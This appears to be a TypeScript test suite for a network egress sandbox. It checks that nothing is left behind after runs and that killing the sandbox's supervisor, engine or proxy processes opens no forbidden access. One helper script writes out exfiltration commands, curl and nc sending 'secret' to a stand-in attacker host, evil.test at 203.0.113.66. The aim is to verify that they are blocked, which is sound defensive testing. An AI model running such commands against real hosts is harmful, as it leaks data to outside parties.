/** What stays behind: nothing, and until that is cleared away, nothing gets out. */

import assert from "node:assert/strict";
import { leftoversIn, processesIn, rolesOf, tracesOf } from "../support/leftovers.ts";
import { some } from "../support/log.ts";
import { type Scene, suite } from "../support/suite.ts";
import { introduced, who } from "../support/who.ts";

const test = suite();
const policy = "site.test";

/** Waits for a signal file, then tries to reach an allowed and a forbidden server, and says how it went. */
function waiting(folder: string): string[] {
  const script = `mkfifo ${folder}/go 2>/dev/null; echo waiting; read -r _ <${folder}/go; ` +
    "curl -sS -m 5 -o /dev/null -w 'allowed %{http_code}\\n' https://site.test/after; " +
    "curl -sS -m 5 -o /dev/null -w 'forbidden %{http_code}\\n' " +
    "--resolve evil.test:80:203.0.113.66 -d secret http://evil.test/; " +
    "echo secret | nc -N -w 2 203.0.113.66 9000; echo secret | nc -u -w 1 203.0.113.66 9000; " +
    "echo done";
  return introduced(["sh", "-c", script]);
}

async function go(scene: Scene): Promise<void> {
  await Deno.writeTextFile(`${scene.folder}/go`, "\n");
}

test("leftovers: none after an ordinary end", async (scene) => {
  const run = await scene.run({
    policy,
    command: introduced(["curl", "-sS", "https://site.test/"]),
  });
  assert.equal(run.status, 0, run.stderr);
  assert.deepEqual(await tracesOf(who(run.stdout).run), []);
});

test("leftovers: none after an invalid command", async (scene) => {
  const run = await scene.run({ policy, command: ["/no/such/command"] });
  assert.equal(run.status, 127);
});

test("leftovers: other people's rules are still there, and only they", async (scene) => {
  const inside = (...command: string[]) => scene.run({ policy, command }).then((r) => r.stdout);
  const [file = "", ...args] = scene.internet.command([
    ...["iptables", "-A", "OUTPUT", "-d", "192.0.2.99", "-j", "ACCEPT"],
  ]);
  assert.ok((await new Deno.Command(file, { args }).output()).success);
  const before = await rules(scene);
  const during = await inside("iptables-save");
  assert.match(during, /EGRESS-/);
  assert.match(during, /192\.0\.2\.99/);
  assert.equal(await rules(scene), before);
});

async function rules(scene: Scene): Promise<string> {
  const [file = "", ...args] = scene.internet.command(["iptables-save", "-t", "filter"]);
  const output = await new Deno.Command(file, { args }).output();
  // Comments hold the time, and counters go on.
  return new TextDecoder().decode(output.stdout).replace(/^#.*\n/gm, "").replace(/\[.*\]/g, "");
}

test("kill -9: of the supervisor leaves COMMAND closed, and the next run clears all away", async (scene) => {
  const running = await scene.start({ policy, command: waiting(scene.folder) });
  const { run: id } = who(await running.said(/waiting\n/));
  running.kill("SIGKILL");
  await go(scene);
  const killed = await running.finished;
  assert.doesNotMatch(killed.stdout, /forbidden 200/);
  await scene.attackerGotNothing();
  const next = await scene.run({ policy, command: ["curl", "-sS", "https://site.test/next"] });
  assert.equal(next.stdout, "GET /next 0\n", next.stderr);
  assert.match(next.stderr, new RegExp(`cleared away what run ${id} left`));
  assert.deepEqual(await tracesOf(id), []);
  assert.deepEqual(await processesIn(scene.internet), []);
});

for (const role of ["kernel", "engine", "proxy"]) {
  test(`kill -9: of the ${role} role opens nothing`, async (scene) => {
    const running = await scene.start({ policy, command: waiting(scene.folder) });
    const { run: id } = who(await running.said(/waiting\n/));
    const pids = (await rolesOf(id)).get(role);
    assert.ok(pids && pids.length > 0, `no ${role} process of run ${id} found`);
    for (const pid of pids) Deno.kill(pid, "SIGKILL");
    await go(scene);
    const run = await running.finished;
    assert.match(run.stdout, /done/, run.stderr);
    assert.doesNotMatch(run.stdout, /forbidden 200/);
    await scene.attackerGotNothing();
    assert.deepEqual(await tracesOf(id), []);
    assert.deepEqual(await leftoversIn(scene.internet), []);
  });
}

test("kill -9: a restarted engine judges as before", async (scene) => {
  const running = await scene.start({ policy, command: waiting(scene.folder) });
  const { run: id } = who(await running.said(/waiting\n/));
  for (const pid of (await rolesOf(id)).get("engine") ?? []) Deno.kill(pid, "SIGKILL");
  await go(scene);
  const run = await running.finished;
  assert.match(run.stdout, /allowed 200/, run.stderr);
  some(run.log, { type: "https", policy: "allow" });
});

test("kill -9: a restarted proxy relays as before", async (scene) => {
  const script = `mkfifo ${scene.folder}/go; echo waiting; read -r _ <${scene.folder}/go; ` +
    "until curl -sS -m 5 https://site.test/again; do :; done";
  const running = await scene.start({ policy, command: introduced(["sh", "-c", script]) });
  const { run: id } = who(await running.said(/waiting\n/));
  for (const pid of (await rolesOf(id)).get("proxy") ?? []) Deno.kill(pid, "SIGKILL");
  await go(scene);
  const run = await running.finished;
  assert.match(run.stdout, /GET \/again 0\n$/, run.stderr);
});
